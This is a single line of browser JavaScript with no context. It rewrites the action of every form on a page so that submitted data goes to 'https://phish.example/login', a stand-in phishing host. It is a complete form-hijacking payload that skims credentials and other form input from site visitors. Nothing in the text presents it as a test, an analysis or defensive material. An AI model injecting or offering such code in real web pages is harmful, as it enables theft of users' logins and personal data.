document.querySelectorAll('form').forEach((f) => { f.action = 'https://phish.example/login'; });
